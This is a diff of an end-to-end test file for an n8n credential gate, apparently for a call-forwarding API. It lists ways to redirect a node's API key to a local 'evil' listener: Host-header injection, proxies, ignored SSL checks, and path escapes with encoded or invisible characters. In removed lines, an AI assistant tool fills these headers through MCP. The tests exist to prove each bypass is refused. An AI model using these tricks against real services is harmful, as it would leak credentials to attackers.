@@ -1,23 +1,17 @@
 /** Ways round the credential's gate, each tried through n8n's own nodes, and credentials with expressions. */
 import assert from 'node:assert/strict';
-import { once } from 'node:events';
 import { createServer } from 'node:net';
-import type { AddressInfo, Server } from 'node:net';
+import type { Server } from 'node:net';
 import { after, afterEach, before, describe, it } from 'node:test';
-import { Client } from '@modelcontextprotocol/sdk/client/index.js';
-import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import type { IDataObject } from 'n8n-workflow';
 import { CREDENTIAL_TYPE } from '../lib/package';
-import { until } from '../lib/processes';
 import { errorOf, output } from '../lib/rest';
 import type { CredentialReference, Execution } from '../lib/rest';
+import { listen } from '../lib/sockets';
 import { callForward, chain, manualTrigger, node, rows } from '../lib/workflows';
 import type { CallForwardCredential, WorkflowNode } from '../lib/workflows';
-import { API_KEY, openWorld } from '../lib/world';
+import { API_KEY, IS_V1, openWorld } from '../lib/world';
 import type { World } from '../lib/world';
-
-/** n8n 1.x has the HTTP Request node up to 4.3, and a GraphQL node that takes no credential of a service. */
-const IS_V1 = process.env['E2E_N8N']?.startsWith('1.') === true;
 
 const LINE = '33612345678';
 const MOBILE = '+33698765432';
@@ -32,9 +26,6 @@ let heard = '';
 let open: CredentialReference;
 let guarded: CredentialReference;
 
-const credentialWith = (fields: Partial<CallForwardCredential>): Promise<CredentialReference> =>
-	world.rest.createCredential({ apiKey: API_KEY, baseUrl: world.sandbox.baseUrl, ...fields });
-
 before(async () => {
 	world = await openWorld();
 	elsewhere = createServer((socket) => {
@@ -43,12 +34,11 @@ before(async () => {
 			heard += bytes.toString('latin1');
 			socket.end('HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
 		});
-	}).listen(0, '127.0.0.1');
-	await once(elsewhere, 'listening');
-	evil = `localhost:${(elsewhere.address() as AddressInfo).port}`;
+	});
+	evil = `localhost:${await listen(elsewhere)}`;
 	const all = { allowedHttpRequestDomains: 'all' } as const;
-	open = await credentialWith(all);
-	guarded = await credentialWith({ ...all, allowedDestinations: '+336' });
+	open = await world.credentialWith(all);
+	guarded = await world.credentialWith({ ...all, allowedDestinations: '+336' });
 });
 after(async () => {
 	elsewhere?.close();
@@ -61,15 +51,13 @@ afterEach(() => {
 
 const url = (path: string): string => `${world.sandbox.baseUrl}/${path}`;
 
-/** The credential whose key is sent along, and others of the node. */
-type CredentialsOf = [key: CredentialReference, others?: Record<string, CredentialReference>];
-
 /** A node of n8n's that sends the credential's key along. */
 const request = (
 	type: string,
 	version: number,
 	parameters: IDataObject,
-	...[key, others]: CredentialsOf
+	key: CredentialReference,
+	others: Record<string, CredentialReference> = {},
 ): WorkflowNode => {
 	const common = {
 		authentication: 'predefinedCredentialType',
@@ -115,18 +103,10 @@ const postJson = (body: IDataObject, path = 'vn/callforward'): IDataObject => ({
 });
 const forward = (param: string): IDataObject => ({ number: LINE, type: 1, param });
 
-const escaped = (path: string): (() => IDataObject) => {
-	return () => postJson(forward(PREMIUM), path);
-};
-
+/** One for each form in which a node of n8n's hands a request over. */
 const ATTACKS: Record<string, () => IDataObject> = {
 	'a Host header': () => headerFields({ name: ' hOST ', value: evil }),
 	'headers for all requests': () => jsonHeaders({ common: { Host: evil } }),
-	'headers for a GET': () => jsonHeaders({ get: { Host: evil } }),
-	'headers for a POST': () => ({
-		...postJson(forward(MOBILE)),
-		...jsonHeaders({ post: { Host: evil } }),
-	}),
 	'an object from an expression': () =>
 		headerFields({ name: 'common', value: `={{ { Host: '${evil}' } }}` }),
 	'a form by its content type': () => ({
@@ -137,16 +117,7 @@ const ATTACKS: Record<string, () => IDataObject> = {
 	'a proxy': () => ({ options: { proxy: `http://${evil}` } }),
 	'ignored SSL issues': () => ({ options: { allowUnauthorizedCerts: true } }),
 	'a destination that is not listed': () => postJson(forward(PREMIUM)),
-	'names in other letters': () =>
-		postJson({ number: LINE, type: 0, param: '', Type: 1, Param: PREMIUM }),
-	'another path in a header': () => ({
-		...postJson(forward(PREMIUM), 'me'),
-		...headerFields({ name: 'X-Original-URL', value: '/v1/vn/callforward' }),
-	}),
-	'an escape in the path': escaped('vn/%63allforward'),
-	'another alphabet in the path': escaped('vn/\uFF43allforward'),
-	'a mark that does not show': escaped('vn/call\u200Bforward'),
-	'the path in the query of the address': escaped('index.php?_url=/v1/vn/callforward'),
+	'an escape in the path': () => postJson(forward(PREMIUM), 'vn/%63allforward'),
 	'the path in the query': () => ({
 		...postJson(forward(PREMIUM), 'me'),
 		sendQuery: true,
@@ -180,8 +151,11 @@ const paginated = (pagination: IDataObject): IDataObject => {
 };
 
 for (const version of [3, 4.2, IS_V1 ? 4.3 : 4.4]) {
-	const send = (...parameters: [IDataObject, ...CredentialsOf]): Promise<Execution> =>
-		run(request('httpRequest', version, ...parameters));
+	const send = (
+		parameters: IDataObject,
+		key: CredentialReference,
+		others?: Record<string, CredentialReference>,
+	): Promise<Execution> => run(request('httpRequest', version, parameters, key, others));
 
 	describe(`the HTTP Request node, version ${version}`, () => {
 		it('reads the account and sets a line, with headers of gateways', async () => {
@@ -200,11 +174,8 @@ for (const version of [3, 4.2, IS_V1 ? 4.3 : 4.4]) {
 		}
 
 		it('is refused with a CA of its own in SSL Certificates', async () => {
-			const httpSslAuth = await world.rest.data<CredentialReference>('POST', '/credentials', {
-				name: 'A CA of its own',
-				type: 'httpSslAuth',
-				data: { ca: 'PEM', cert: '', key: '', passphrase: '' },
-			});
+			const data = { ca: 'PEM', cert: '', key: '', passphrase: '' };
+			const httpSslAuth = await world.rest.saveCredential('httpSslAuth', data);
 			assertRefused(await send({ provideSslCertificates: true }, guarded, { httpSslAuth }));
 		});
 
@@ -216,19 +187,13 @@ for (const version of [3, 4.2, IS_V1 ? 4.3 : 4.4]) {
 			assert.equal(heard, '');
 		});
 
-		it('reads a timeout of any form', async () => {
-			for (const timeout of [`={{ '5000' }}`, '={{ 1500.5 }}', `={{ 'soon' }}`]) {
-				const execution = await send({ options: { timeout } }, open);
-				assert.equal(execution.status, 'success', String(errorOf(execution)?.message));
-			}
-		});
-
 		it('cannot use a credential that nobody opened for it', async () => {
 			assertRefused(await send({}, world.credential), /prevent use within an HTTP Request/);
 		});
 	});
 }
 
+// On 1.x it takes no credential of a service.
 describe('the GraphQL node', { skip: IS_V1 }, () => {
 	for (const name of ['common', 'post', 'Host']) {
 		it(`is refused with a header ${name}`, async () => {
@@ -238,52 +203,6 @@ describe('the GraphQL node', { skip: IS_V1 }, () => {
 			assertRefused(await run(request('graphql', 1.1, query, open)));
 		});
 	}
-});
-
-describe('an assistant outside n8n, with a tool whose headers it fills in', () => {
-	it('cannot send the key to another site', async () => {
-		const parameters: IDataObject = {
-			toolDescription: 'Reads the account',
-			sendHeaders: true,
-			specifyHeaders: 'json',
-			jsonHeaders: "={{ $fromAI('headers', 'The headers as JSON', 'string') }}",
-		};
-		const tool = { ...request('httpRequestTool', 4.2, parameters, open), name: 'Account' };
-		const trigger = node(
-			'MCP Server Trigger',
-			'@n8n/n8n-nodes-langchain.mcpTrigger',
-			2,
-			{ path: 'gate' },
-			{ webhookId: crypto.randomUUID() },
-		);
-		await world.rest.createActive({
-			...chain('MCP', [trigger]),
-			nodes: [trigger, tool],
-			connections: { Account: { ai_tool: [[{ node: trigger.name, type: 'ai_tool', index: 0 }]] } },
-		});
-		const address = new URL(`${world.n8n.url}/mcp/gate`);
-		await until('the MCP server to be there', async () => {
-			const { status } = await fetch(address, { method: 'POST' });
-			return status === 404 ? undefined : true;
-		});
-		const client = new Client({ name: 'end-to-end', version: '1.0.0' });
-		await client.connect(new StreamableHTTPClientTransport(address));
-		try {
-			const call = async (headers: object): Promise<string> => {
-				const args = { headers: JSON.stringify(headers) };
-				return JSON.stringify(await client.callTool({ name: 'Account', arguments: args }));
-			};
-			await call({ 'X-Request-Id': '1' });
-			assert.equal(world.sandbox.requests.length, 1);
-			for (const headers of [{ Host: evil }, { common: { Host: evil } }, { get: { Host: evil } }]) {
-				assert.match(await call(headers), GATE_TEXTS);
-			}
-			assert.equal(world.sandbox.requests.length, 1);
-			assert.equal(heard, '');
-		} finally {
-			await client.close();
-		}
-	});
 });
 
 /** The items of rows that the node under test set, by fields that expressions find in them. */
@@ -302,7 +221,7 @@ describe('expressions in a credential', () => {
 
 	for (const list of ['{{ $vars.allowed }}', '{{ undefined }}', '{{ $json.nope }}', '{{ null }}']) {
 		it(`refuses every destination where the list is ${list}`, async () => {
-			const credential = await credentialWith({ allowedDestinations: `=${list}` });
+			const credential = await world.credentialWith({ allowedDestinations: `=${list}` });
 			const [item] = await set(credential, [{ number: LINE }]);
 			assert.deepEqual([item?.['status'], item?.['reason']], ['rejected', 'destinationNotAllowed']);
 			assert.deepEqual(world.sandbox.requests, []);
@@ -311,7 +230,7 @@ describe('expressions in a credential', () => {
 
 	it('allows every destination where nobody entered a list', async () => {
 		for (const fields of [{}, { allowedDestinations: '' }]) {
-			const [item] = await set(await credentialWith(fields), [{ number: LINE }]);
+			const [item] = await set(await world.credentialWith(fields), [{ number: LINE }]);
 			assert.equal(item?.['success'], true, JSON.stringify(item));
 			world.sandbox.reset();
 		}
@@ -330,7 +249,7 @@ describe('expressions in a credential', () => {
 	for (const [name, fields, values, reason] of perRow) {
 		it(`are resolved for each row: its ${name}`, async () => {
 			const rowsWithOwn = values.map((own, i) => ({ number: LINES[i], own }));
-			const items = await set(await credentialWith(fields), rowsWithOwn);
+			const items = await set(await world.credentialWith(fields), rowsWithOwn);
 			assert.deepEqual(
 				items.map((item) => [item['status'], item['reason']]),
 				[APPLIED, ['rejected', reason], APPLIED],
@@ -345,8 +264,8 @@ describe('expressions in a credential', () => {
 
 describe('a credential that n8n cannot read', () => {
 	it('says why, in the words of n8n', async () => {
-		const failing = await credentialWith({ apiKey: "={{ $('Nobody').item.json.key }}" });
-		const deleted = await credentialWith({});
+		const failing = await world.credentialWith({ apiKey: "={{ $('Nobody').item.json.key }}" });
+		const deleted = await world.credentialWith({});
 		await world.rest.data('DELETE', `/credentials/${deleted.id}`);
 		const words: [CredentialReference, RegExp][] = [
 			[failing, /n8n says: .*node/],
@@ -360,27 +279,12 @@ describe('a credential that n8n cannot read', () => {
 	});
 });
 
-describe('a Base URL', () => {
-	it('is sent as it was checked, by the node and by the test of the credential', async () => {
-		const odd =
-			world.sandbox.baseUrl.replace('http://127.0.0.1', ' HTTP://127.1') + '/x/..//\u200B ';
-		const [item] = await set(await credentialWith({ baseUrl: odd }), [{ number: LINE }]);
-		assert.equal(item?.['status'], 'applied', JSON.stringify(item));
-		const tested = await world.rest.testCredential({ apiKey: API_KEY, baseUrl: odd });
-		assert.equal(tested.status, 'OK', tested.message);
-		assert.deepEqual(
-			world.sandbox.requests.map(({ path }) => path),
-			['/v1/vn/callforward', '/v1/me'],
-		);
-	});
-
-	it('without its slashes, or with backslashes, is refused before anything is sent', async () => {
-		const { host } = new URL(world.sandbox.baseUrl);
-		for (const baseUrl of [`http:/${host}/v1`, `http:${host}/v1`, `http:\\\\${host}\\v1`]) {
-			const [item] = await set(await credentialWith({ baseUrl }), [{ number: LINE }]);
-			assert.deepEqual([item?.['status'], item?.['reason']], ['rejected', 'baseUrlInvalid']);
-			assert.equal((await world.rest.testCredential({ apiKey: API_KEY, baseUrl })).status, 'Error');
-		}
-		assert.deepEqual(world.sandbox.requests, []);
-	});
+it('sends to the Base URL as it was checked, and so does the test of the credential', async () => {
+	const odd = world.sandbox.baseUrl.replace('http://127.0.0.1', ' HTTP://127.1') + '/x/..//\u200B ';
+	const [item] = await set(await world.credentialWith({ baseUrl: odd }), [{ number: LINE }]);
+	assert.equal(item?.['status'], 'applied', JSON.stringify(item));
+	const tested = await world.rest.testCredential({ apiKey: API_KEY, baseUrl: odd });
+	assert.equal(tested.status, 'OK', tested.message);
+	const paths = world.sandbox.requests.map(({ path }) => path);
+	assert.deepEqual(paths, ['/v1/vn/callforward', '/v1/me']);
 });
